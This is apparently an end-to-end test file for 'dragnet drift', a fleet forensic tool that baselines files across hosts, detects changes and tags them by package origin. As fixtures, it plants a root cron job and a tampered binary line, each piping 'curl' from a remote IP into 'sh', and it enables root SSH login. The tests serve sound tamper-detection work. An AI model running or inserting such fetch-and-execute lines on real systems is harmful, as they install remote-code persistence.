import { appendFileSync, mkdirSync, writeFileSync } from "node:fs";
import { basename, join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { dragnet, ndjson, requireBuild } from "../helpers/cli.js";
import { installFakePackage, makePackageRoot, upgradePackagedFile } from "../helpers/fake-packages.js";
import { eventually, startFleet, type TestFleet, tempDir } from "../helpers/fleet.js";

// `dragnet drift` as an investigator runs it on three agents: baseline, a
// change only one host has and one all have, then check — per host with a
// diff, and stacked across the fleet, rarest first.

let fleet: TestFleet;
let home: string;
let tree: string;
let hosts: string[];

beforeAll(async () => {
  requireBuild();
  fleet = await startFleet({ agents: 3 });
  home = fleet.consoleHome();
  tree = tempDir("dragnet-drift-e2e-");
  mkdirSync(join(tree, "ssh"));
  mkdirSync(join(tree, "cron.d"));
  writeFileSync(join(tree, "ssh/sshd_config"), "Port 22\nPermitRootLogin no\n");
  writeFileSync(join(tree, "cron.d/backup"), "0 3 * * * root /usr/local/bin/backup\n");
  await eventually(async () => ((await fleet.api.listAgents()).length === 3 ? true : undefined));
  hosts = (await fleet.api.listAgents()).map((a) => a.hostname).sort();
});

afterAll(async () => {
  await fleet?.stop();
});

const cli = (args: string[]) => dragnet(["--home", home, ...args]);

describe("dragnet drift", () => {
  it("baselines, then reports nothing changed (exit 1)", async () => {
    const base = await cli(["--json", "drift", "baseline", "-t", "all", "--path", tree, "--name", "etc"]);
    expect(base.code).toBe(0);
    expect(ndjson(base.stdout).map((r) => [r.name, r.entries])).toEqual(hosts.map(() => ["etc", 5]));
    const none = await cli(["--json", "drift", "check", "-t", "all", "--name", "etc"]);
    expect([none.code, none.stdout]).toEqual([1, ""]);
    const list = await cli(["--json", "drift", "baseline", "-t", "all", "--list"]);
    expect(ndjson(list.stdout).map((r) => r.name)).toEqual(["etc", "etc", "etc"]);
  });

  it("stacks identical changes across hosts, the odd one out first, with its diff", async () => {
    // sshd_config changes while all three hold the old baseline…
    writeFileSync(join(tree, "ssh/sshd_config"), "Port 22\nPermitRootLogin yes\n");
    // …then two hosts take the new state as good: only the first still sees that change.
    const [odd, ...rest] = hosts;
    const rebase = await cli([
      "drift",
      "baseline",
      "-t",
      `hostname != "${odd}"`,
      "--path",
      tree,
      "--name",
      "etc",
      "-q",
    ]);
    expect(rebase.code).toBe(0);
    // A new cron file: every host sees it.
    writeFileSync(join(tree, "cron.d/evil"), "* * * * * root curl -s http://203.0.113.7/x | sh\n");

    const perHost = ndjson((await cli(["--json", "drift", "check", "-t", "all", "--name", "etc"])).stdout);
    const sshd = perHost.filter((r) => String(r.path).endsWith("sshd_config"));
    expect(sshd.map((r) => (r.agent as { hostname: string }).hostname)).toEqual([odd]);
    expect(sshd[0]!.diff).toContain("-PermitRootLogin no\n+PermitRootLogin yes");
    // The table shows each host's diffs under it.
    const table = await cli(["drift", "check", "-t", "all", "--name", "etc", "-q"]);
    expect(table.stdout).toContain(`${odd}: ${join(tree, "ssh/sshd_config")}\n`);
    expect(table.stdout).toContain("-PermitRootLogin no\n+PermitRootLogin yes");

    const stacked = await cli(["--json", "drift", "check", "-t", "all", "--name", "etc", "--stack"]);
    expect(stacked.code).toBe(0);
    expect(
      ndjson(stacked.stdout).map((r) => [r.hosts, String(r.path).slice(tree.length), r.kind, r.what]),
    ).toEqual([
      [1, "/ssh/sshd_config", "changed", "content"],
      [3, "/cron.d/evil", "added", ""],
    ]);
    expect(ndjson(stacked.stdout)[0]!.hostnames).toEqual([odd]);
    expect(rest).toHaveLength(2);
  });

  it("tags each changed file's origin from the package database; --skip-upgrades sets upgrades aside, in checks and alerts", async () => {
    const pkgRoot = tempDir("dragnet-drift-packages-");
    makePackageRoot(pkgRoot);
    installFakePackage(pkgRoot, "dragnet-fake-tools", {
      "usr/bin/tool-a": "#!/bin/sh\necho a 1.0\n",
      "usr/bin/tool-b": "#!/bin/sh\necho b\n",
    });
    // The in-process agents read this root's dpkg database instead of the machine's.
    process.env.DRAGNET_PACKAGE_ROOT = pkgRoot;
    try {
      const bin = join(pkgRoot, "usr/bin");
      expect((await cli(["drift", "baseline", "-t", "all", "--path", bin, "--name", "usr", "-q"])).code).toBe(
        0,
      );
      const watch = ["drift", "watch", "start", "-t", "all", "--path", bin, "--name", "usr-watch", "-q"];
      expect((await cli(watch)).code).toBe(0);
      const t0 = Date.now();
      upgradePackagedFile(pkgRoot, "dragnet-fake-tools", "usr/bin/tool-a", "#!/bin/sh\necho a 2.0\n");
      appendFileSync(join(bin, "tool-b"), "curl -s http://203.0.113.9/x | sh\n");

      const check = ["--json", "drift", "check", "-t", "all", "--name", "usr", "--stack"];
      const all = ndjson((await cli(check)).stdout);
      expect(all.map((r) => [r.hosts, basename(String(r.path)), r.origin])).toEqual([
        [3, "tool-a", "package (dpkg:dragnet-fake-tools)"],
        [3, "tool-b", "modified (dpkg:dragnet-fake-tools)"],
      ]);
      const skipped = await cli([...check, "--skip-upgrades"]);
      expect(ndjson(skipped.stdout).map((r) => basename(String(r.path)))).toEqual(["tool-b"]);
      expect(skipped.stderr).toContain("3 changes set aside as package upgrades");

      // The watches' alerts carry the same origins; --skip-upgrades leaves the upgrade out there too.
      const since = new Date(t0).toISOString();
      const alerted = await eventually(async () => {
        const alerts = ndjson((await cli(["--json", "alerts", "--since", since])).stdout).filter(
          (a) => a.watch === "usr-watch",
        );
        const changes = alerts.flatMap((a) => a.changes as Array<{ path: string; origin: string }>);
        return changes.filter((c) => c.path.endsWith("/tool-b")).length === 3 &&
          changes.filter((c) => c.path.endsWith("/tool-a")).length === 3
          ? changes
          : undefined;
      }, 15_000);
      expect([...new Set(alerted.map((c) => `${basename(c.path)} ${c.origin}`))].sort()).toEqual([
        "tool-a package",
        "tool-b modified",
      ]);
      const quiet = await cli(["--json", "alerts", "--since", since, "--skip-upgrades"]);
      const kept = ndjson(quiet.stdout)
        .filter((a) => a.watch === "usr-watch")
        .flatMap((a) => (a.changes as Array<{ path: string }>).map((c) => basename(c.path)));
      expect([...new Set(kept)]).toEqual(["tool-b"]);
      expect(quiet.stderr).toMatch(/[1-9]\d* changes? set aside as package upgrades/);
      await cli(["drift", "watch", "stop", "-t", "all", "--name", "usr-watch", "-q"]);
    } finally {
      delete process.env.DRAGNET_PACKAGE_ROOT;
    }
  });
});
